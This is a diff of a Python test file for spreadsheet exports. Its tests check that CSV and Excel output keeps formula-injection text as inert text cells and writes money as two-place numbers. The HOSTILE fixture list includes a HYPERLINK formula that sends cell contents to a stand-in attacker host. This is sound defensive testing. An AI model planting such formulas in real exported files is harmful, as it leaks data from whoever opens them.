@@ -13,7 +13,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from shared.http.exports import FORMULA_STARTS, csv_text, is_number, safe_cell
+from shared.http.exports import FORMULA_STARTS, Sheet, csv_text, is_number, safe_cell, xlsx_bytes
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?d="&A1,"open")',
@@ -95,13 +95,14 @@ def test_our_numbers_are_written_as_plain_numerals(number: int | Decimal | float
 
 
 def test_an_excel_workbook_keeps_hostile_text_as_text_cells_and_numbers_as_numbers() -> None:
-    """Issue 24: in Excel the cell's type does the quote's work: hostile text is a text cell holding the text itself,
-    never a formula; our numbers are number cells."""
+    """Issues 22, 24: in Excel the cell's type does the quote's work: hostile text is a text cell holding the text
+    itself, never a formula; our numbers are number cells, the columns asked for with two places."""
     import openpyxl
 
-    from shared.http.exports import CSV, XLSX, export_type, xlsx_bytes
+    from shared.http.exports import CSV, XLSX, export_type
 
-    book = xlsx_bytes([("价格表", ["text", "amount", "floor"], [[h, Decimal("1000000.50"), 7] for h in HOSTILE])])
+    table = [[h, Decimal("1000000.50"), 7] for h in HOSTILE]
+    book = xlsx_bytes([Sheet("价格表", ["text", "amount", "floor"], table, frozenset({1}))])
     sheet = openpyxl.load_workbook(io.BytesIO(book)).active
     rows = list(sheet.iter_rows(min_row=2))
     texts = [r[0].value.replace("_x000D_", "\r") for r in rows]  # the file's escape of a CR, which openpyxl keeps
@@ -110,3 +111,33 @@ def test_an_excel_workbook_keeps_hostile_text_as_text_cells_and_numbers_as_numbe
     assert rows[0][1].value == 1000000.5 and rows[0][1].number_format == "0.00" and rows[0][2].value == 7
     assert export_type("text/csv") == CSV and export_type(f"{XLSX}, */*") == XLSX
     assert export_type("application/json") is None and export_type(None) is None
+
+
+def _workbook(header: list[object], rows: list[list[object]], two_places: frozenset[int] = frozenset()):
+    import openpyxl
+
+    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes([Sheet("t", header, rows, two_places)])))
+    return list(book["t"].iter_rows())
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_in_a_workbook_text_a_spreadsheet_would_run_is_a_text_cell(text: str) -> None:
+    """Issue 22: the Excel reports; the cell is a text cell holding the text itself, never a formula cell."""
+    [_, [cell]] = _workbook(["who"], [[text]])
+    assert cell.data_type == "s" and cell.value.replace("_x000D_", "\r") == text  # the file's escape of a CR
+
+
+def test_in_a_workbook_our_numbers_are_number_cells_money_with_two_places() -> None:
+    [header, row] = _workbook(["n", "amount", "name"], [[3, Decimal("-12.50"), "王伟"]], frozenset({1}))
+    assert [c.value for c in header] == ["n", "amount", "name"]
+    assert (row[0].data_type, row[0].value) == ("n", 3)
+    assert (row[1].data_type, row[1].number_format, Decimal(str(row[1].value))) == ("n", "0.00", Decimal("-12.5"))
+    assert (row[2].data_type, row[2].value) == ("s", "王伟")
+
+
+@given(st.lists(st.lists(ANYTHING, min_size=1, max_size=3), max_size=3))
+def test_no_workbook_cell_is_a_formula_whatever_it_is_given(rows: list[list[object]]) -> None:
+    for line in _workbook(["a", "b", "c"], rows):
+        for cell in line:
+            assert cell.data_type != "f"
+            assert cell.data_type == "n" or isinstance(cell.value, str) or cell.value is None
